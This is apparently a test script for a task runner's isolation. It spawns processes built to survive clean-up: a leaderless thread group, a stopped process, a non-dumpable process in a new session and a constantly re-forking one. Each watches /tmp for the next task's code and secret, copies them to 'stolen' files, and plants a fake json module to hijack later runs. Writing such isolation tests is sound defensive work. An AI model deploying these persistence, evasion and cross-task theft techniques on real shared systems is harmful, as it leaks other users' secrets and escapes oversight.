# expect: any
# next: survivor_leaderless_b.py
# payload: {"secret": "secret-of-task-b"}
# Leaves behind the kinds of process a state-based clean-up misses: a thread group whose leader thread
# has exited (it looks like a zombie), a stopped process, a non-dumpable process in a new session, and
# one that keeps re-forking. Each watches for the next task's code and payload, and plants a module
# in scratch that shadows the standard library's `json`.
import ctypes, os, signal, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
SYS_exit = 60 if os.uname().machine == "x86_64" else 93


def spy(tag):
    for _ in range(3000):
        for path in ("/tmp/main.py", "/tmp/payload.json"):
            try:
                data = open(path).read()
                if "survivor_leaderless_b" in data or "secret-of-task-b" in data:
                    open(f"/tmp/stolen_{tag}", "w").write(data[:200])
            except OSError:
                pass
        try:
            open("/tmp/json.py", "w").write("print('ESCAPED planted json module')\nraise SystemExit(0)\n")
            open(f"/tmp/alive_{tag}", "w").write(str(time.time()))
        except OSError:
            pass
        time.sleep(0.01)
    os._exit(0)


def detached(body):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            body()
            os._exit(0)
        os._exit(0)
    os.wait()


def leaderless():
    threading.Thread(target=spy, args=("leaderless",)).start()
    libc.syscall(SYS_exit, 0)  # only the leader thread exits; the group lives on


def stopped():
    if os.fork() == 0:
        spy("stopped_child")
    os.kill(os.getpid(), signal.SIGSTOP)
    spy("stopped")


def hidden():
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0: /proc/PID is no longer the task uid's
    spy("hidden")


def reforking():
    while True:
        if os.fork() != 0:
            os._exit(0)
        try:
            open("/tmp/alive_reforking", "w").write(str(time.time()))
        except OSError:
            pass
        time.sleep(0.002)


for body in (leaderless, stopped, hidden, reforking):
    detached(body)
time.sleep(0.3)
print("planted")
